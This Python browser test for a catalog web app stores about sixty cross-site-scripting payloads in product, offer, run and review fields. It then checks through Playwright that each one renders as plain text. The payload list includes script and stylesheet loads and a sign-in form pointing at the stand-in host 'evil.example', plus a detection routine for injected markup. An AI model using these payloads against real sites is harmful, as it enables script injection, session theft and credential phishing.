"""Markup that suppliers and people store, shown by a real browser on every kind of place that shows words (class C1)."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote

import uvicorn
from played import NotRun, Tally, World
from playwright.sync_api import Page, sync_playwright

from endcap.serve.app import make_app
from endcap.serve.limits import Limits
from endcap.serve.sample_catalog import SNAPSHOT, TABLES, SampleGate, SampleHome
from endcap.serve.serving import config_of

PAYLOADS = (
    "<script>alert(1)</script>", '"><script>alert(2)</script>', "'><script>alert(3)</script>", "</title><script>alert(4)</script>",
    "</textarea><script>alert(5)</script>", "</style><script>alert(6)</script>", "--><script>alert(7)</script>", "]]><script>alert(8)</script>",
    "<ScRiPt>alert(9)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/src=data:,alert(11)></script>", "<<script>alert(12)//<</script>",
    "<img src=x onerror=alert(13)>", '"><img src=x onerror=alert(14)>', "<img/src/onerror=alert(15)>", "<img src=x onerror='alert(16)'>",
    "<svg onload=alert(17)>", "<svg/onload=alert(18)>", "<svg><script>alert(19)</script></svg>", "<svg><animate onbegin=alert(20) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(21)><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(22)>#x'/></svg>",
    "<body onload=alert(23)>", "<iframe src=javascript:alert(24)></iframe>", "<iframe srcdoc='<script>parent.alert(25)</script>'></iframe>",
    "<object data=javascript:alert(26)></object>", "<embed src=javascript:alert(27)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(29)'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{color:red}</style>",
    "<style>@import'//evil.example/x.css'</style>", "<p style=position:fixed;inset:0>covered</p>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(35)>", "<select autofocus onfocus=alert(36)><option>x</select>", "<textarea autofocus onfocus=alert(37)>",
    "<details open ontoggle=alert(38)>x</details>", "<marquee onstart=alert(39)>x</marquee>", "<video><source onerror=alert(40)></video>",
    "<audio src=x onerror=alert(41)>", "<math><mtext></p><style><img src=x onerror=alert(42)>", "<template><script>alert(43)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(44)>'>", "' onmouseover='alert(45)' x='", '" onmouseover="alert(46)" x="',
    '" autofocus onfocus="alert(47)" x="', "` onclick=alert(48) `", "javascript:alert(49)", "JaVaScRiPt:alert(50)", "java\tscript:alert(51)",
    "javascript://x/%0Aalert(52)", "data:text/html,<script>alert(53)</script>", "vbscript:msgbox(54)", "http://x/' onclick='alert(55)",
    'https://x/"><svg onload=alert(56)>', "{{ 7181 * 3 }}<b>57</b>", "${alert(58)}", "&lt;script&gt;alert(59)&lt;/script&gt;", "<!-- <b>60</b>",
)  # fmt: skip
# What our pages never hold and injected markup would.
FOREIGN = """() => {
    const found = [];
    for (const one of document.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
            if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${one.tagName} ${name}`);
            if (['href', 'src', 'action', 'data', 'xlink:href'].includes(name) && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(value))
                found.push(`${one.tagName} ${value}`);
        }
        if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'VIDEO', 'AUDIO', 'MARQUEE', 'MATH', 'IMG'].includes(one.tagName)) found.push(one.tagName);
        const address = one.tagName === 'SCRIPT' ? one.src : one.tagName === 'LINK' ? one.href : one.tagName === 'FORM' ? one.action : location.origin;
        if (!address.startsWith(location.origin)) found.push(`${one.tagName} ${address}`);
    }
    return [...found, ...(window.refusedByPolicy || [])];
}"""
LISTEN = (
    "document.addEventListener('securitypolicyviolation',"
    " (event) => { (window.refusedByPolicy ||= []).push(`policy: ${event.violatedDirective} ${event.blockedURI}`); });"
)
SHOWN = "() => document.body.textContent + [...document.querySelectorAll('input, textarea')].map((one) => one.value).join(' ')"


class Watched:
    """A page, and what went wrong on it since it was asked last."""

    def __init__(self, page: Page, address: str) -> None:
        self.page, self.address, self.alarms = page, address, list[str]()
        page.add_init_script(LISTEN)
        page.on("dialog", self._on_dialog)

    def _on_dialog(self, dialog: Any) -> None:
        self.alarms.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def look(self, path: str = "") -> tuple[str, list[str]]:
        """(the words shown, without white space; what was alarming) on a page, or on the page as it stands."""
        if path:
            self.page.goto(f"{self.address}{path}", wait_until="load")
        alarms, self.alarms = self.alarms + self.page.evaluate(FOREIGN), []
        return "".join(self.page.evaluate(SHOWN).split()), alarms


def stored_markup(world: World, tally: Tally, wanted: int) -> None:
    """Each payload in each place: shown as the words that it is, and nothing of it is markup."""
    browser_path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser_path is None:
        raise NotRun("install Debian's package chromium")
    payloads = PAYLOADS[: max(1, min(len(PAYLOADS), wanted // 14))]
    app = make_app(SampleHome(_poisoned(payloads), SNAPSHOT), SampleGate(), limits=Limits({"read": 1e9, "write": 1e9, "sign-in": 1e9}))
    with served(app) as address, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=browser_path, args=["--no-sandbox"])
        watched = Watched(browser.new_page(), address)
        watched.page.route("**/api/v1/products/*/answers", lambda route: route.fulfill(status=404, json={}))  # read by a script; told below
        for place, paths in _places(payloads).items():
            shown, alarms = "", list[str]()
            for path in paths:
                told, found = watched.look(path)
                shown, alarms = shown + told, alarms + found
            _count(tally, place, payloads, shown, alarms)
        for place, looked in (("notes on a product", _notes), ("desk", _desk), ("desk of categories", _questions)):
            shown, alarms = looked(watched, payloads)
            _count(tally, place, payloads, shown, alarms)
        browser.close()


@contextmanager
def served(app: Any) -> Iterator[str]:
    """The application on a free port of loopback, served as `endcap serve` does; gives its address."""
    config = config_of(app)
    config.port = 0
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        thread.join(0.02)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    thread.join(10)


def _count(tally: Tally, place: str, payloads: tuple[str, ...], shown: str, alarms: list[str]) -> None:
    for payload in payloads:
        there = "".join(payload.split()) in shown or repr(payload)[1:-1] in shown
        tally.check(there and not alarms, f"{place}: {alarms[0] if alarms else f'{payload!r} is not shown as it is'}")


def _poisoned(payloads: tuple[str, ...]) -> dict[str, list[dict[str, Any]]]:
    """The sample catalog with a row of each payload in every table whose words are shown."""
    offer, product = TABLES["offers"][0], TABLES["products"][0]
    waits = {"kind": "category", "action": "to_review", "confidence": 0.5, "reason_code": "doubtful", "decided_by": "machine", "policy": "p"}
    linked = {"kind": "product", "action": "linked", "product_id": "p1", "confidence": 0.9, "reason_code": "alike", "decided_by": "machine", "policy": "p"}
    tables: dict[str, list[dict[str, Any]]] = {"snapshots": [SNAPSHOT]} | {name: [] for name in ("offers", "products", "decisions", "product_events")}
    tables |= {"quarantined": [], "deliveries": [TABLES["deliveries"][0]], "runs": []}
    values = [{**product["values"][0], "field": f"field{n}", "value": payload, "source_offer_id": "nord:0"} for n, payload in enumerate(payloads)]
    tables["products"].append({**product, "title": payloads[0], "values": values})
    for n, payload in enumerate(payloads):
        offer_id, words = f"nord:{n}", {"title": payload, "brand": payload, "category": payload}
        tables["offers"].append({**offer, "offer_id": offer_id, "title": payload, "description": payload, "url": payload, "brand": payload, "mpn": payload})
        tables["products"].append({**product, **words, "product_id": f"q{n}", "values": [], "offers": 1})
        tables["decisions"] += [{**linked, "offer_id": offer_id, "reason": payload}, {**waits, "offer_id": offer_id, "value": payload, "reason": payload}]
        tables["product_events"].append({"product_id": "p1", "event": f"absorbed {n}", "offer_id": offer_id, "reason": payload})
        tables["quarantined"].append({"delivery_id": "nord@2024-05-02", "feed": "nord", "position": n, "raw": payload.encode(), "code": "x", "reason": payload})
        held = {"feed": "sued", "supplier": payload, "date": f"2024-06-{n % 28 + 1:02}", "state": "held", "reason": payload}
        tables["deliveries"].append({**held, "delivery_id": f"sued@{n}"})
        told = {"run": n + 10, "state": "failed", "started_at": "2024-05-03T06:00:00Z", "error": payload, "deliveries_json": "[]", "figures_json": "{}"}
        tables["runs"].append({**told, "attempt_id": n + 10})
    return tables


def _places(payloads: tuple[str, ...]) -> dict[str, list[str]]:
    """Where the payloads are shown, with the addresses of that place."""
    many = range(len(payloads))
    return {
        "products: titles, brands, categories": [f"/products?page={page}" for page in (1, 2)], "a product's values": ["/p/p1"], "a product's offers": ["/p/p1"],
        "a product's history": ["/p/p1"], "an offer's title": [f"/o/nord:{n}" for n in many],
        "quarantined records": [f"/quarantine/nord@2024-05-02?page={page}" for page in (1, 2)],
        "suppliers of deliveries": ["/deliveries"], "a feed's deliveries": ["/feeds/sued", "/deliveries"], "errors of runs": [f"/runs/{n + 10}" for n in many],
        "words searched for": [f"/products?q={quote(payload)}" for payload in payloads],
        "a category asked for": [f"/products?category={quote(payload)}" for payload in payloads],
        "an address with nothing": [f"/p/{quote(payload, safe='')}" for payload in payloads],
    }  # fmt: skip


def _notes(watched: Watched, payloads: tuple[str, ...]) -> tuple[str, list[str]]:
    """Notes that people left on a product, which a script of ours shows."""
    said = [
        {"override_id": n + 1, "group_id": f"g{n}", "action": "set", "offer_id": "nord:0", "field": "brand", "value": payload, "said": payload, "until": None,
         "actor": payload, "role": "lead", "at": "2024-05-02T09:00:00Z", "note": payload, "waits": True}
        for n, payload in enumerate(payloads)
    ]  # fmt: skip
    told = {"snapshot": "s", "version": "1-1", "fields": ["brand"], "said": said, "asked": []}
    watched.page.route("**/api/v1/products/*/answers", lambda route: route.fulfill(content_type="application/json", body=json.dumps(told)))
    watched.page.goto(f"{watched.address}/p/p1", wait_until="networkidle")
    return watched.look()


def _desk(watched: Watched, payloads: tuple[str, ...]) -> tuple[str, list[str]]:
    """Every item of the desk in turn, put off by its key."""
    left, page = [[_item(payload, n) for n, payload in enumerate(payloads)]], watched.page

    def answer(route: Any) -> None:
        found = left.pop() if left else []
        counts = {
            "waiting": len(payloads),
            "fitting": len(payloads),
            "leased": 0,
            "holders": {},
            "suppliers": dict.fromkeys(payloads, 1),
            "categories": {},
            "reasons": {},
        }
        route.fulfill(content_type="application/json", body=json.dumps({"snapshot": "s", **counts, "items": found}))

    page.route("**/api/v1/review/next*", answer)
    page.route("**/api/v1/review/decisions", lambda route: route.abort())
    page.goto(f"{watched.address}/review", wait_until="load")
    shown, alarms = "", list[str]()
    for _payload in payloads:
        page.wait_for_selector(".side.asked .title")
        told, found = watched.look()
        shown, alarms = shown + told, alarms + found
        page.keyboard.press("s")
    return shown, alarms


def _questions(watched: Watched, payloads: tuple[str, ...]) -> tuple[str, list[str]]:
    """Every question about a category in turn, put off by its key."""
    left, page = [[_question(payload, n) for n, payload in enumerate(payloads)]], watched.page

    def answer(route: Any) -> None:
        found = left.pop() if left else []
        route.fulfill(content_type="application/json", body=json.dumps({"snapshot": "s", "waiting": len(found), "questions": found}))

    page.route("**/api/v1/review/values*", answer)
    page.goto(f"{watched.address}/review?kind=category", wait_until="load")
    shown, alarms = "", list[str]()
    for _payload in payloads:
        page.wait_for_selector("#item .title.asked")
        told, found = watched.look()
        shown, alarms = shown + told, alarms + found
        page.keyboard.press("s")
    return shown, alarms


def _question(text: str, number: int) -> dict[str, Any]:
    return {
        "product_id": f"P{number}", "field": "category", "title": text, "offers": 2, "supplier": text, "path": text, "reason": text, "says": text,
        "override_id": None, "options": [{"value": text, "words": text}], "group": text, "evidence": "e",
    }  # fmt: skip


def _item(text: str, number: int) -> dict[str, Any]:
    stated = {
        "offer_id": f"x:{number}", "supplier": text, "title": text, "words": [{"text": word, "shared": False} for word in text.split()], "brand": text,
        "gtin": text, "mpn": text, "price": text, "quantity": text, "description": text, "url": text,
    }  # fmt: skip
    fields = [{"name": text, "offer": text, "other": text, "same": False}]
    choice = {"product_id": "P1", "title": text, "offers": 3, "suppliers": 2, "likeness": 0.5, "nearest": stated, "fields": fields, "words": text}
    return {
        "offer_id": f"x:{number}", "identity": "1", "evidence": "e", "reason_code": "doubtful", "reason": text, "model": None, "group": text, "risks": [text],
        "offer": stated, "choices": [choice],
    }  # fmt: skip
